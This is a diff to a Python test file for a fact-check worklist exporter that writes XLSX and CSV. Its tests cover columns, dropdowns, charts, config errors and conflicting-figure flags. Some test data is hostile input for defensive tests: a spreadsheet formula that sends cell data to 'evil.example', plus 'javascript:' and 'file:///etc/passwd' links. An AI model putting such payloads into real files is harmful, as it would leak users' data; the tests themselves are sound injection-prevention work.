@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import datetime as dt
 import json
+import re
 import shutil
 import subprocess
 from pathlib import Path
@@ -14,6 +16,8 @@ from typer.testing import CliRunner
 
 from claims.cli import app
 from claims.worklist.rows import HEADERS
+
+SEED = Path(__file__).resolve().parents[1] / "articles" / "upi-north-korea-russia-anniversary.txt"
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
@@ -55,10 +59,16 @@ def test_sheets_columns_and_layout(seed_workbook):
     assert tuple(c.value for c in ws[1]) == HEADERS
     assert ws.freeze_panes == "E2"
     (table,) = ws.tables.values()
-    assert table.ref == f"A1:U{ws.max_row}"
-    hidden = [c for c in ("T", "U") if ws.column_dimensions[c].hidden]
-    assert hidden == ["T", "U"]
-    assert wb.properties.identifier and wb.properties.keywords.startswith("claims-export:")
+    assert table.ref == f"A1:V{ws.max_row}"
+    hidden = [c for c in "ABCDEFGHIJKLMNOPQRSTUV" if ws.column_dimensions[c].hidden]
+    assert hidden == ["U", "V"]
+    assert (ws["U1"].value, ws["V1"].value) == ("claim_id", "checksum")
+    export_id = wb.properties.identifier
+    assert re.fullmatch(r"\d{8}T\d{6}Z-[0-9a-f]{8}", export_id)
+    assert wb.properties.keywords == f"claims-export:{export_id}"
+    assert [(p.name, p.value) for p in wb.custom_doc_props] == [("claims_export_id", export_id)]
+    created = wb.properties.created
+    assert abs((dt.datetime.now(dt.timezone.utc).replace(tzinfo=None) - created).total_seconds()) < 3600
 
 
 def test_rows_sorted_by_priority_and_money_row(seed_workbook):
@@ -74,15 +84,47 @@ def test_rows_sorted_by_priority_and_money_row(seed_workbook):
     assert money["Article"] == "North Korea highlights ‘deepening friendship’ with Russia on anniversary"
 
 
-def test_dropdowns_and_locks(seed_workbook):
+def test_dropdowns_colours_and_locks(seed_workbook):
     ws = load_workbook(seed_workbook)["Claims"]
+    last = ws.max_row + 500  # rows a checker adds stay validated
     lists = {dv.formula1: str(dv.sqref) for dv in ws.data_validations.dataValidation}
-    assert lists['"To check,In progress,Done,Not checkable"'].startswith("N2:N")
-    assert lists['"Accurate,Mostly accurate,Misleading,Inaccurate,Unverifiable"'].startswith("O2:O")
-    assert ws.protection.sheet is True
-    assert ws["D2"].protection.locked is True  # Claim: machine column
-    assert ws["N2"].protection.locked is False  # Status: reviewer column
-    assert ws["R2"].protection.locked is False  # Notes
+    assert lists == {'"To check,In progress,Done,Not checkable"': f"O2:O{last}",
+                     '"Accurate,Mostly accurate,Misleading,Inaccurate,Unverifiable"': f"P2:P{last}"}
+    rules = {(str(r.sqref), rule.formula[0]): rule for r in ws.conditional_formatting for rule in r.rules}
+    assert rules[(f"A2:V{last}", '$P2="Inaccurate"')].dxf.fill.fgColor.rgb == "FFFFC7CE"
+    assert (f"I2:I{last}", 'ISNUMBER(SEARCH("previously checked",$I2))') in rules
+    assert ws.protection.sheet is True and ws.protection.password is None
+    header = [c.value for c in ws[1]]
+    for column, cell in zip(header, ws[2]):
+        reviewer = column in ("Status", "Verdict", "Assigned to", "Evidence", "Notes", "Checked on")
+        assert cell.protection.locked is not reviewer, column
+
+
+def test_summary_counts_and_charts(seed_workbook):
+    wb = load_workbook(seed_workbook)
+    claims = _rows(wb["Claims"])
+    ws = wb["Summary"]
+    cells = [[c.value for c in row] for row in ws.iter_rows(max_col=2)]
+    def section(title):
+        start = cells.index([title, "Claims"]) + 1
+        end = next((i for i in range(start, len(cells)) if cells[i] == [None, None]), len(cells))
+        return dict(cells[start:end])
+    types = section("Type")
+    assert types["money"] == 1 and sum(types.values()) == len(claims)
+    assert section("Status") == {"(not set)": len(claims)}
+    assert section("Verdict") == {"(not set)": len(claims)}
+    charts = ws._charts
+    assert [c.title.tx.rich.p[0].r[0].t for c in charts] == ["Claims by type", "Claims by status", "Claims by verdict"]
+    first_type_row = cells.index(["Type", "Claims"]) + 2
+    assert charts[0].series[0].cat.numRef.f == f"'Summary'!$A${first_type_row}:$A${first_type_row + len(types) - 1}"
+
+
+def test_guide_lists_columns_and_verdict_meanings(seed_workbook):
+    guide = {row[0]: row[1] for row in load_workbook(seed_workbook)["Guide"].iter_rows(values_only=True)}
+    assert guide["Inaccurate"] == "The claim is false."
+    assert guide["Status values"] == "To check, In progress, Done, Not checkable"
+    assert "previously checked" in guide["Flags"]
+    assert guide["Export id"] == load_workbook(seed_workbook).properties.identifier
 
 
 def test_context_highlights_the_claim(seed_workbook):
@@ -131,3 +173,132 @@ def test_libreoffice_converts_the_workbook(seed_workbook, tmp_path):
     assert result.returncode == 0, result.stderr
     pdf = tmp_path / "worklist.pdf"
     assert pdf.exists() and pdf.stat().st_size > 1000
+
+
+def _claim_rows(path: Path) -> list[dict[str, object]]:
+    return _rows(load_workbook(path)["Claims"])
+
+
+def test_text_over_the_cell_limit_is_cut_visibly_and_bad_characters_dropped(tmp_path):
+    from claims.config import Settings
+    from claims.model import Article, Claim
+    from claims.worklist.rows import WorklistRow
+    from claims.worklist.xlsx import write_workbook
+
+    sentence = "Officials said 5 people were hurt " + "and so on " * 4000 + "in 2019."
+    article = Article(id="a1", text=sentence, title="Bad \x07bell \ud800 title")
+    claim = Claim(article_id="a1", claim_id="c1", type="quantity", text="5 people", start=14, end=22,
+                  sentence_start=0, sentence_end=len(sentence), rule_id="r", sentence=sentence)
+    out = tmp_path / "long.xlsx"
+    write_workbook(out, [WorklistRow(claim, article)], [article], Settings(), "e1")
+    wb = load_workbook(out)
+    context = wb["Claims"]["E2"].value
+    assert len(sentence) == 40042
+    assert len(context) <= 32767
+    assert context.endswith(" … [cut: 40,042 characters, the first 32,703 shown]")
+    assert context.startswith("Officials said 5 people were hurt and so on")
+    assert wb["Articles"]["A2"].value == "Bad bell  title"
+
+
+def test_only_http_links_become_hyperlinks(tmp_path):
+    text = "Title\n\nThe city spent $5 million on roads in 2020, the mayor said."
+    out = _extract(tmp_path, [{"id": "web", "title": "Web", "url": "https://news.example/roads", "text": text},
+                              {"id": "js", "title": "Script", "url": "javascript:alert(1)", "text": text + " Again."},
+                              {"id": "file", "title": "Local", "url": "file:///etc/passwd", "text": text + " Once more."}])
+    ws = load_workbook(out)["Articles"]
+    links = {row[0].value: (row[3].value, row[3].hyperlink.target if row[3].hyperlink else None) for row in ws.iter_rows(min_row=2)}
+    assert links == {"Web": ("https://news.example/roads", "https://news.example/roads"),
+                     "Script": ("javascript:alert(1)", None), "Local": ("file:///etc/passwd", None)}
+    claims_ws = load_workbook(out)["Claims"]
+    header = [c.value for c in claims_ws[1]]
+    article_col = header.index("Article")
+    targets = {row[article_col].hyperlink.location for row in claims_ws.iter_rows(min_row=2)}
+    assert targets <= {"'Articles'!A2", "'Articles'!A3", "'Articles'!A4"}
+
+
+def test_csv_format_has_the_worklist_columns_and_no_formulas(tmp_path, seed_workbook):
+    import csv
+
+    text = "Formula test\n\n" + "\n\n".join(f"{line} said the agency." for line in DANGEROUS)
+    source = tmp_path / "danger.jsonl"
+    source.write_text(json.dumps({"id": "danger", "text": text}) + "\n", encoding="utf-8")
+    out = tmp_path / "worklist.csv"
+    result = CliRunner().invoke(app, ["extract", str(source), "--format", "csv", "--output", str(out), "--quiet"])
+    assert result.exit_code == 0, result.output
+    with out.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert list(rows[0]) == list(HEADERS)
+    claims = {r["Claim"] for r in rows}
+    assert "'@SUM(A1) is not a formula" in claims and "'+1" in claims
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
+
+    seed_csv = tmp_path / "seed.csv"
+    result = CliRunner().invoke(app, ["extract", str(SEED), "--format", "csv", "--output", str(seed_csv), "--quiet", "--no-ledger"])
+    with seed_csv.open(encoding="utf-8", newline="") as handle:
+        money = next(r for r in csv.DictReader(handle) if r["Type"] == "money")
+    assert (money["Value"], money["Said by"]) == ("> 500,000,000 USD per year", "United States (government)")
+    assert len(_claim_rows(seed_workbook)) == sum(1 for _ in seed_csv.open(encoding="utf-8")) - 1
+
+
+def test_statuses_and_verdicts_come_from_claims_toml(tmp_path):
+    config = tmp_path / "claims.toml"
+    config.write_text('[worklist]\nstatuses = ["Open", "Closed"]\nverdicts = ["True", "Half true", "False"]\n', encoding="utf-8")
+    out = tmp_path / "worklist.xlsx"
+    result = CliRunner().invoke(app, ["extract", str(SEED), "--output", str(out), "--quiet", "--config", str(config)])
+    assert result.exit_code == 0, result.output
+    wb = load_workbook(out)
+    ws = wb["Claims"]
+    assert {dv.formula1 for dv in ws.data_validations.dataValidation} == {'"Open,Closed"', '"True,Half true,False"'}
+    fills = {rule.formula[0]: rule.dxf.fill.fgColor.rgb for r in ws.conditional_formatting for rule in r.rules}
+    assert fills['$P2="True"'] == "FFC6EFCE" and fills['$P2="False"'] == "FFFFEB9C"
+    guide = {row[0]: row[1] for row in wb["Guide"].iter_rows(values_only=True)}
+    assert guide["Status values"] == "Open, Closed" and "Half true" in guide
+
+
+@pytest.mark.parametrize("body, message", [
+    ('verdicts = ["True", "True, mostly"]', "worklist.verdicts: 'True, mostly' contains a comma or a double quote"),
+    ('statuses = ["Open", "open"]', "worklist.statuses lists the same value twice"),
+    ('verdicts = []', "worklist.verdicts must be a non-empty list of strings"),
+    ('verdicts = ["' + '", "'.join(f"Verdict number {i}" for i in range(20)) + '"]', "worklist.verdicts is too long for a spreadsheet dropdown"),
+])
+def test_bad_lists_in_claims_toml_are_one_clear_line(tmp_path, body, message):
+    config = tmp_path / "claims.toml"
+    config.write_text(f"[worklist]\n{body}\n", encoding="utf-8")
+    result = CliRunner().invoke(app, ["extract", str(SEED), "--output", str(tmp_path / "w.xlsx"), "--config", str(config)])
+    assert result.exit_code == 1
+    assert result.output.startswith(f"error: {config}: {message}")
+    assert len(result.output.strip().splitlines()) == 1
+
+
+def test_the_same_claim_in_two_articles_is_one_row_with_both_sources(tmp_path):
+    wire = "The ministry said exports rose 12% in 2023 to $40 billion."
+    out = _extract(tmp_path, [
+        {"id": "wire-a", "title": "Exports up (Agency A)", "outlet": "Agency A", "text": "Exports up\n\n" + wire},
+        {"id": "wire-b", "title": "Exports rise (Paper B)", "outlet": "Paper B", "text": "Exports rise\n\nTrade news.\n\n" + wire},
+    ])
+    rows = _claim_rows(out)
+    money = [r for r in rows if r["Type"] == "money"]
+    assert len(money) == 1
+    assert money[0]["Article"] == "Exports up (Agency A)\nExports rise (Paper B)"
+    assert money[0]["Claim"] == "$40 billion"
+    articles = {r[0]: r[5] for r in load_workbook(out)["Articles"].iter_rows(min_row=2, values_only=True)}
+    assert articles == {"Exports up (Agency A)": len(rows), "Exports rise (Paper B)": len(rows)}
+
+
+def test_figures_that_cannot_both_be_true_are_flagged_across_articles(tmp_path):
+    out = _extract(tmp_path, [
+        {"id": "one", "title": "Seed", "text": SEED.read_text(encoding="utf-8")},
+        {"id": "two", "title": "Labour exports shrink",
+         "text": "Labour exports shrink\n\nNorth Korea earned about $200 million a year from its overseas labor force before "
+                 "sanctions, a defector group said."},
+        {"id": "three", "title": "Budget", "text": "Budget\n\nThe city of Chicago spent about $200 million a year on road repairs, "
+                                                    "the mayor said."},
+    ])
+    rows = {r["Claim"]: r for r in _claim_rows(out)}
+    seed_id = rows["more than $500 million annually"]["ID"]
+    other_id = rows["about $200 million a year"]["ID"] if "about $200 million a year" in rows else None
+    assert rows["more than $500 million annually"]["Flags"] == (
+        f"conflicting figure: 'Labour exports shrink' gives ~ 200,000,000 USD per year (claim {other_id})")
+    flagged = [r for r in rows.values() if r["Flags"] and "conflicting figure" in r["Flags"]]
+    assert {r["Article"] for r in flagged} == {"Seed", "Labour exports shrink"}  # the Chicago budget is another measure
+    assert f"gives > 500,000,000 USD per year (claim {seed_id})" in next(r for r in flagged if r["Article"] != "Seed")["Flags"]
